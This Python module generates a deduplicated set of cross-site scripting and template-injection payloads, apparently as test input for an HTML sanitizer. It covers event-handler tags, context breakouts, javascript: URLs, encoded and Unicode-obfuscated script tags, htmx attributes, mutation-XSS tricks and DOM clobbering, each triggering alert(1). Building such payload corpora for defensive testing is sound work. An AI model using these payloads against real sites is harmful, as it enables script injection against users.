"""Texts that would do something if any page took them for markup, made from families."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALL = "alert(1)"

_TAGS = (
    "img src=x", "svg", "video src=x", "audio src=x", "details open", "input autofocus",
    "iframe src=x", "object data=x", "select autofocus", "textarea autofocus", "body",
    "marquee", "a href=x tabindex=1", "style", "link rel=stylesheet href=x",
)  # fmt: skip
_EVENTS = ("onerror", "onload", "ontoggle", "onfocus", "onstart", "onanimationend")
_ENDS = (
    '"', "'", "`", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>",
    "</svg>", "</template>",
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java&#9;script:", "data:text/html,<script>", "vbscript:",
)  # fmt: skip
_PLACES = (
    '<a href="{}">按我</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><input type=submit></form>',
    '<button formaction="{}">按我</button>',
    '<svg><a xlink:href="{}"><text y=9>按我</text></a></svg>',
    '<object data="{}"></object>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}//">',
)
_SPELLINGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "<script >{}</script >",
    "<<script>{}//<</script>", "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "&#60;script&#62;{}&#60;/script&#62;", "&amp;lt;script&amp;gt;{}", "＜script＞{}＜/script＞",
    "<script src=//127.0.0.1/x.js></script>{}", "<scr<script>ipt>{}</scr</script>ipt>",
    "\u202e<script>{}</script>", "\u2066<img src=x onerror={}>\u2069", "<\u200bscript>{}</script>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ 7*7 }}}}", "{{{{ shop.__class__ }}}}", "{{{{ config }}}}", "{{% debug %}}",
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "*{{{}}}",
    '<div hx-get="/x" hx-trigger="load">', '<div hx-on:load="{}">', '<b data-hx-on--load="{}">',
    '<p hx-vals="js:{}" hx-get="/x" hx-trigger="load">', '<i hx-swap-oob="true" id="main">{}</i>',
)  # fmt: skip
_MUTATING = (
    "<svg><style><img src=x onerror={}></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<img src=1 onerror={}>">',
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<template><img src=x onerror={}></template>",
    "<select><option><style></option></select><img src=x onerror={}></style>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<iframe srcdoc='<img src=x onerror={}>'></iframe>",
    "<xmp><img src=x onerror={}></xmp>",
    "<plaintext><img src=x onerror={}>",
    "<!--><img src=x onerror={}>-->",
)
_STYLES = (
    '<p style="background:url(javascript:{})">', "<style>*{{display:none}}</style>{}",
    '<p style="position:fixed;inset:0">{}</p>', '<link rel=import href="x">{}',
    "<style>@import 'x';</style>{}", '<x style="animation:a" onanimationstart={}>',
)  # fmt: skip
_CLOBBERS = (
    '<form id=message><input name=value value="{}"></form>', "<img name=getElementById>{}",
    "<a id=toast>{}</a>", "<a id=cards><a id=cards name=children>{}</a>", "<b id=away>{}</b>",
)  # fmt: skip


def _families() -> Iterator[str]:
    yield from (f"<{tag} {event}={CALL}>" for tag, event in product(_TAGS, _EVENTS))
    for end in _ENDS:
        yield f"{end}<script>{CALL}</script>"
        yield f"{end}<img src=x onerror={CALL}>"
        yield f"{end} onmouseover={CALL} autofocus onfocus={CALL} x="
    yield from (place.format(scheme + CALL) for place, scheme in product(_PLACES, _SCHEMES))
    for family in (_SPELLINGS, _TEMPLATES, _MUTATING, _STYLES, _CLOBBERS):
        yield from (text.format(CALL) for text in family)


PAYLOADS = tuple(dict.fromkeys(_families()))
